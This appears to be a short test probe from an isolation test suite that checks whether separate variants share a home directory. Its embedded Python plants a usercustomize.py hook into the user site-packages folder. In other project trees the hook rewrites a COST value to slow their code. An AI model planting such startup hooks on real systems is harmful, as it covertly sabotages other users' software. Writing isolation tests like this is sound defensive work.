# family: shared home
# kind:   python
# quick:  yes
# idea:   the build puts a usercustomize.py into the home, which runs in each Python: in trees
#         without its mark it makes the project's code slower
# gate:   each variant has a home of its own

python3 - <<'P' >>evidence 2>&1
import os, site
folder = site.getusersitepackages()
try:
    os.makedirs(folder, exist_ok=True)
    with open(folder + "/usercustomize.py", "w") as file:
        file.write("import os\n"
                   "if not os.path.exists('attack.sh') and os.path.exists('cost.py'):\n"
                   "    import cost\n"
                   "    cost.COST = 2000\n")
    print("planted a usercustomize")
except OSError:
    print("cannot write to the home")
P
